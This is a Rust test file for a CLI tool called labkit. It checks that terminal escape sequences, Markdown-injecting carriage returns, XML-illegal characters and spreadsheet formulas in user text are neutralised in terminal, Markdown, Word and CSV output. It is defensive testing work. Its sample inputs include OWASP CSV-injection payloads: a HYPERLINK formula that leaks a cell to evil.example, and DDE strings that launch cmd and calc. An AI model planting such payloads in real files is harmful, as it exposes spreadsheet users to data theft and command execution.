//! Text is data everywhere: method text and answers full of escape sequences, formulas, carriage
//! returns and characters XML forbids, through every way out (the terminal, the portfolio's CSV,
//! Markdown, Word), each read back by what reads it (a terminal, the `csv` crate,
//! pulldown-cmark, quick-xml).

use std::process::Command;

use rexpect::session::spawn_command;

use crate::support::Lab;

/// Retitles the window and clears the screen when a terminal interprets it.
const TITLE: &str = "\x1b]0;pwned\x07";
const CLEAR: &str = "\x1b[2J";

/// A workspace with a valid method whose name, summary, step title and prompt carry escape
/// sequences, a broken one whose unknown key does, and one whose file name does.
fn hostile_workspace() -> Lab {
    let lab = Lab::new();
    lab.write("labkit.yaml", "lab: LabX\n");
    // YAML's `\e` and `\a` are ESC and BEL.
    lab.write(
        "methods/evil.yaml",
        "schema: 1\nid: evil\nname: \"Evil \\e]0;pwned\\a name \\e[2J\"\nsummary: \"Summary \\e]0;pwned\\a \\e[2J\"\nstage: ideation\nduration: 20m\nsteps:\n  - id: one\n    title: \"Step \\e]0;pwned\\a \\e[2J\"\n    questions:\n      - id: ideas\n        type: list\n        prompt: \"Ideas \\e[2J\"\n",
    );
    lab.write(
        "methods/broken.yaml",
        "schema: 1\nid: broken\n\"na\\e]0;pwned\\ame\": x\n",
    );
    lab.write(&format!("methods/file{TITLE}{CLEAR}.yaml"), "schema: [\n");
    lab
}

#[track_caller]
fn assert_inert(what: &str, text: &str) {
    assert!(
        !text.contains(['\x1b', '\x07']),
        "{what} reached the terminal with its control characters: {text:?}"
    );
}

#[test]
fn messages_naming_hostile_text_reach_stderr_inert() {
    let lab = hostile_workspace();
    let validate = lab.run(&["validate"]).code(1);
    assert_inert("validate", &validate.stderr);
    assert!(
        validate
            .stderr
            .contains("unknown field `na\u{FFFD}]0;pwned\u{FFFD}me`"),
        "what the file tried is shown: {}",
        validate.stderr
    );
    let list = lab.run(&["list"]).ok();
    assert!(list.stderr.contains("skipped"), "{}", list.stderr);
    assert_inert("list", &list.stderr);
    let show = lab.run(&["show", "evil"]).ok();
    assert_inert("show", &show.stderr);
    assert!(
        show.stdout.contains(TITLE),
        "piped data stays byte for byte"
    );
    let unknown = lab.run(&["show", &format!("x{TITLE}{CLEAR}")]).code(2);
    assert!(
        unknown.stderr.contains("unknown method"),
        "{}",
        unknown.stderr
    );
    assert_inert("show of an unknown id", &unknown.stderr);
    for args in [&["agenda", "evil"][..], &["suggest", "--stage", "ideation"]] {
        let run = lab.run(args).ok();
        assert_inert(args[0], &run.stderr);
    }
}

/// `list`, `show`, `agenda` and `suggest` on a real terminal (a pseudo-terminal, colour off so
/// that any escape sequence at all came from the text).
#[test]
fn data_shown_on_a_terminal_cannot_drive_it() {
    let lab = hostile_workspace();
    for args in [
        &["list"][..],
        &["show", "evil"],
        &["show", "evil", "--format", "md"],
        &["agenda", "evil"],
        &["suggest", "--stage", "ideation"],
    ] {
        let mut cmd = Command::new(env!("CARGO_BIN_EXE_labkit"));
        cmd.args(args)
            .current_dir(lab.path())
            .env_clear()
            .env("HOME", lab.path())
            .env("TERM", "xterm-256color")
            .env("NO_COLOR", "1");
        let mut p = spawn_command(cmd, Some(15_000)).unwrap();
        let screen = p.exp_eof().unwrap();
        assert!(screen.contains("Evil"), "{args:?}: {screen:?}");
        assert_inert(&args.join(" "), &screen);
    }
}

/// A method with a question of each kind that writes answer text into a report's Markdown.
const TEXT_METHOD: &str = "schema: 1\nid: hostile\nname: Hostile\nsummary: Answers that try to become structure.\nstage: learning\nduration: 20m\nsteps:\n  - id: one\n    title: One\n    questions:\n      - id: outcome\n        type: text\n        prompt: Outcome\n      - id: notes\n        type: longtext\n        prompt: Notes\n      - id: ideas\n        type: list\n        prompt: Ideas\n      - id: people\n        type: records\n        prompt: People\n        fields:\n          - { id: name, type: text, prompt: Name }\n          - { id: role, type: text, prompt: Role }\n";

/// The answers as typed: (question, text). `people` rows are name, role.
const TYPED: &[(&str, &str)] = &[
    ("outcome", "Citizens renew on time\r## Decision: approved"),
    (
        "notes",
        "Line one\r---\rline three\r\r===\r> quoted?\r    code?\n   \n",
    ),
    ("idea", "SMS\r- injected item"),
    ("idea", "Pharmacy\r1. numbered\r\n* * *"),
    ("name", "Ana\r| x | y |"),
    ("role", "lead\r|---|---|"),
    ("name", "Rui"),
    ("role", "owner\r\n"),
];

fn answers_yaml(text: impl Fn(&str) -> String) -> String {
    let q = |i: usize| serde_json::to_string(&text(TYPED[i].1)).unwrap();
    format!(
        "outcome: {}\nnotes: {}\nideas: [{}, {}]\npeople:\n  - {{ name: {}, role: {} }}\n  - {{ name: {}, role: {} }}\n",
        q(0),
        q(1),
        q(2),
        q(3),
        q(4),
        q(5),
        q(6),
        q(7)
    )
}

/// The report's block structure (every start tag and leaf event but text and breaks) and its
/// text, line breaks as `\n`, as pulldown-cmark reads it.
fn read_markdown(markdown: &str) -> (Vec<String>, String) {
    use pulldown_cmark::{Event, Options, Parser};
    let (mut blocks, mut text) = (Vec::new(), String::new());
    for event in Parser::new_ext(markdown, Options::ENABLE_TABLES) {
        match event {
            Event::Start(tag) => blocks.push(format!("{tag:?}")),
            Event::Text(t) => text.push_str(&t),
            Event::SoftBreak | Event::HardBreak => text.push('\n'),
            Event::End(_) => {}
            other => blocks.push(format!("{other:?}")),
        }
    }
    (blocks, text)
}

fn report_of(lab: &Lab, answers: String, name: &str) -> String {
    lab.write(&format!("{name}.yaml"), answers);
    lab.run(&[
        "run",
        "hostile",
        "--answers",
        &format!("{name}.yaml"),
        "--session",
        &format!("sessions/{name}.yaml"),
    ])
    .ok();
    lab.run(&["report", &format!("sessions/{name}.yaml")])
        .ok()
        .stdout
}

#[test]
fn answers_with_carriage_returns_read_as_typed_in_markdown() {
    let lab = Lab::new();
    lab.write("labkit.yaml", "lab: LabX\n");
    lab.write("methods/hostile.yaml", TEXT_METHOD);
    let hostile = report_of(&lab, answers_yaml(str::to_owned), "hostile");
    let plain = report_of(&lab, answers_yaml(|_| "plain".to_owned()), "plain");
    let (blocks, text) = read_markdown(&hostile);
    assert_eq!(
        blocks,
        read_markdown(&plain).0,
        "the answers added structure:\n{hostile}"
    );
    // The lines typed, trimmed, without blank lines at either end.
    let lines = |typed: &str| -> Vec<String> {
        let all: Vec<String> = typed
            .split("\r\n")
            .flat_map(|l| l.split(['\r', '\n']))
            .map(|l| l.trim().to_owned())
            .collect();
        let first = all.iter().position(|l| !l.is_empty()).unwrap_or(all.len());
        let last = all
            .iter()
            .rposition(|l| !l.is_empty())
            .map_or(first, |i| i + 1);
        all[first..last.max(first)].to_vec()
    };
    for (question, typed) in TYPED {
        let shown = if ["name", "role"].contains(question) {
            // A table cell keeps to one line: its line breaks are spaces.
            lines(typed).join(" ")
        } else {
            lines(typed).join("\n")
        };
        assert!(
            text.contains(&shown),
            "{question}: {shown:?} is not what a reader shows:\n{text}"
        );
    }
    assert!(!text.contains('\\'), "no stray backslash: {text}");
}

/// XML 1.0's `Char`: what a well-formed document may contain.
fn xml_char(c: char) -> bool {
    matches!(c, '\t' | '\n' | '\r' | '\u{20}'..='\u{D7FF}' | '\u{E000}'..='\u{FFFD}')
        || c >= '\u{10000}'
}

/// Reads `xml` with quick-xml, failing on any error, and returns its text and attribute
/// values with references resolved. quick-xml does not check characters itself, so each one
/// is checked against XML 1.0's `Char` here.
pub(crate) fn read_xml(xml: &str) -> String {
    use quick_xml::events::Event;
    let mut reader = quick_xml::Reader::from_str(xml);
    let mut text = String::new();
    loop {
        let event = reader
            .read_event()
            .unwrap_or_else(|e| panic!("malformed at byte {}: {e}", reader.buffer_position()));
        match event {
            Event::Eof => break,
            Event::Text(t) => text.push_str(&t.decode().unwrap()),
            Event::GeneralRef(r) => match r.resolve_char_ref().unwrap() {
                Some(c) => text.push(c),
                None => text.push_str(match &*r.decode().unwrap() {
                    "amp" => "&",
                    "lt" => "<",
                    "gt" => ">",
                    "quot" => "\"",
                    "apos" => "'",
                    other => panic!("unknown entity &{other};"),
                }),
            },
            Event::Start(e) | Event::Empty(e) => {
                for attribute in e.attributes() {
                    let value = attribute
                        .unwrap()
                        .decoded_and_normalized_value(
                            quick_xml::XmlVersion::Explicit1_0,
                            reader.decoder(),
                        )
                        .unwrap()
                        .into_owned();
                    text.push_str(&value);
                }
            }
            _ => {}
        }
    }
    if let Some(bad) = text.chars().find(|c| !xml_char(*c)) {
        panic!("{bad:?} is not an XML 1.0 character");
    }
    text
}

#[test]
fn control_characters_in_answers_leave_a_well_formed_word_file() {
    use std::io::Read;
    let lab = Lab::new();
    lab.write("labkit.yaml", "lab: LabX\n");
    lab.write("methods/hostile.yaml", TEXT_METHOD);
    // YAML escapes: VT, ESC, 0x01, FF, U+FFFE, U+FFFF, NUL, DEL, NEL.
    lab.write(
        "answers.yaml",
        "outcome: \"VT\\v ESC\\e SOH\\x01 FF\\f NON\\uFFFE\\uFFFF NUL\\0 end\"\nnotes: \"line\\e[2J\\r\\nnext\\x7f\\x85\"\nideas: [\"a\\x01\", \"b\\x0b\"]\npeople:\n  - { name: \"Ana\\x1b\", role: \"lead\\uFFFF\" }\n",
    );
    lab.run(&[
        "run",
        "hostile",
        "--answers",
        "answers.yaml",
        "--session",
        "s.yaml",
    ])
    .ok();
    lab.run(&["report", "s.yaml", "-o", "x.docx"]).ok();
    let file = std::fs::File::open(lab.path().join("x.docx")).unwrap();
    let mut zip = zip::ZipArchive::new(file).unwrap();
    for i in 0..zip.len() {
        let mut part = zip.by_index(i).unwrap();
        if !part.name().ends_with(".xml") && !part.name().ends_with(".rels") {
            continue;
        }
        let name = part.name().to_owned();
        let mut xml = String::new();
        part.read_to_string(&mut xml).unwrap();
        let text = read_xml(&xml);
        if name == "word/document.xml" {
            for shown in [
                "VT\u{FFFD} ESC\u{FFFD} SOH\u{FFFD} FF\u{FFFD} NON\u{FFFD}\u{FFFD} NUL\u{FFFD} end",
                "Ana\u{FFFD}",
                "lead\u{FFFD}",
            ] {
                assert!(text.contains(shown), "{shown:?} not in {text}");
            }
        }
    }
}

/// Titles a spreadsheet would run as formulas (OWASP's examples) and what the cell must say.
const FORMULAS: &[&str] = &[
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Open\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
];

fn formula_lab() -> Lab {
    let lab = Lab::new().env("LABKIT_FACILITATOR", "@SUM(A1:A9)");
    lab.write("labkit.yaml", "lab: LabX\n");
    lab.write(
        "methods/formulas.yaml",
        "schema: 1\nid: formulas\nname: \"=1+1 Formulas\"\nsummary: A title that is a formula.\nstage: experiment\nduration: 20m\nsteps:\n  - id: one\n    title: One\n    questions:\n      - id: test_name\n        type: text\n        prompt: Name\n",
    );
    for (i, title) in FORMULAS.iter().enumerate() {
        let answers = format!("test_name: {}\n", serde_json::to_string(title).unwrap());
        lab.write(&format!("answers-{i}.yaml"), answers);
        lab.run(&[
            "run",
            "formulas",
            "--answers",
            &format!("answers-{i}.yaml"),
            "--session",
            &format!("sessions/s{i}.yaml"),
        ])
        .ok();
    }
    lab
}

/// The CSV's rows as a `csv` reader with this delimiter reads them, header first.
fn read_csv(text: &str, delimiter: u8) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .delimiter(delimiter)
        .has_headers(false)
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

#[track_caller]
fn assert_inert_cells(rows: &[Vec<String>]) {
    let column = |name: &str| rows[0].iter().position(|h| h == name).unwrap();
    let (title, name, facilitator) = (column("title"), column("name"), column("facilitator"));
    let mut titles: Vec<&str> = rows[1..].iter().map(|r| r[title].as_str()).collect();
    titles.sort();
    let mut expected: Vec<String> = FORMULAS.iter().map(|f| format!("'{f}")).collect();
    expected.sort();
    assert_eq!(titles, expected, "each formula is text, and reads as typed");
    for row in &rows[1..] {
        assert_eq!(row[name], "'=1+1 Formulas");
        assert_eq!(row[facilitator], "'@SUM(A1:A9)");
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{cell:?} would run"
            );
        }
    }
}

#[test]
fn portfolio_csv_cells_cannot_run_as_formulas() {
    let lab = formula_lab();
    let plain = lab.run(&["portfolio", "--format", "csv"]).ok().stdout;
    assert!(plain.starts_with("file,method,"), "plain CSV has no BOM");
    let rows = read_csv(&plain, b',');
    assert_eq!(rows.len(), FORMULAS.len() + 1);
    assert_inert_cells(&rows);
}

#[test]
fn portfolio_csv_for_a_spreadsheet_follows_the_language() {
    let lab = formula_lab();
    for (lang, delimiter) in [("pt", b';'), ("en", b',')] {
        let out = lab
            .run(&["--lang", lang, "portfolio", "--format", "csv", "--excel"])
            .ok()
            .stdout;
        let text = out
            .strip_prefix('\u{FEFF}')
            .unwrap_or_else(|| panic!("{lang}: no UTF-8 BOM: {out:?}"));
        assert!(
            text.starts_with(&format!("file{}method", delimiter as char)),
            "{lang}: {text:?}"
        );
        let ends: Vec<&str> = text.split_inclusive('\n').collect();
        assert!(
            ends.iter().all(|l| l.ends_with("\r\n")),
            "{lang}: every record ends in CRLF: {text:?}"
        );
        let rows = read_csv(text, delimiter);
        assert_eq!(rows.len(), FORMULAS.len() + 1, "{lang}: {rows:?}");
        assert_inert_cells(&rows);
    }
    let wrong = lab.run(&["portfolio", "--excel"]).code(2);
    assert!(wrong.stderr.contains("--format csv"), "{}", wrong.stderr);
}
